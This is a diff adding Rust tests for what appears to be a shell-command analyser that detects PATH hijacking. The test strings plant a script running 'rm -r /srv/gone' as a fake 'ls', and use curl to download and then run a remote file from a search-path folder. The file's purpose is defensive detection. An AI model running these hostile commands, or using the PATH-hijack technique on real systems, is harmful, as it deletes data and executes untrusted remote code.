@@ -1,0 +1,67 @@
+//! A program that the call wrote is run under its name once its folder is one in which the shell looks for programs.
+
+use super::tests::told;
+
+/// Ways to have the shell look into `d` and to run what lies there as `ls`.
+const WAYS: [&str; 8] = [
+    "PATH=$PWD/d:$PATH; ls",
+    "export PATH=d:$PATH; ls -la",
+    "PATH=$PWD/d:$PATH ls",
+    "env PATH=$PWD/d:/usr/bin ls",
+    "export PATH=\"$PATH:$PWD/d\"; ls",
+    "PATH=$TOOLS:$PATH; ls",
+    "PATH+=:$PWD/d; ls",
+    "PATH=/usr/bin:d; cd . && ls",
+];
+
+#[test]
+fn what_was_written_to_a_folder_of_the_search_path_is_run() {
+    for way in WAYS {
+        let command = format!("mkdir d; echo 'rm -r /srv/gone' > d/ls; chmod +x d/ls; {way}");
+        assert!(
+            told(&command)
+                .iter()
+                .any(|action| action.starts_with("fs.delete /srv/gone")),
+            "{command}: {:?}",
+            told(&command)
+        );
+    }
+}
+
+#[test]
+fn what_was_fetched_to_a_folder_of_the_search_path_is_run() {
+    for way in WAYS {
+        for name in ["ls", "our-tool"] {
+            let way = way.replace("ls", name);
+            let command =
+                format!("curl -so d/{name} https://files.example/x; chmod +x d/{name}; {way}");
+            let remote = |action: &String| action.starts_with("exec.remote_code");
+            assert!(
+                told(&command).iter().any(remote),
+                "{command}: {:?}",
+                told(&command)
+            );
+        }
+    }
+}
+
+#[test]
+fn other_folders_and_other_names_are_left_alone() {
+    for command in [
+        "echo 'rm -r /srv/gone' > d/ls; ls",
+        "echo 'rm -r /srv/gone' > d/ls; PATH=$PWD/e:/usr/bin; ls",
+        "echo 'rm -r /srv/gone' > d/ls.txt; PATH=d:$PATH; ls",
+        "echo 'rm -r /srv/gone' > d/ls; PATH=d:$PATH; cat d/ls",
+        "echo 'rm -r /srv/gone' > d/ls; PATH=d:$PATH; /bin/ls",
+        "curl -so d/data.json https://files.example/x; PATH=d:$PATH; our-tool",
+        "export PATH=$HOME/.cargo/bin:$PATH; cargo build > log; ls",
+    ] {
+        let found = told(command);
+        assert!(
+            !found.iter().any(|action| {
+                action.starts_with("fs.delete") || action.starts_with("exec.remote_code")
+            }),
+            "{command}: {found:?}"
+        );
+    }
+}
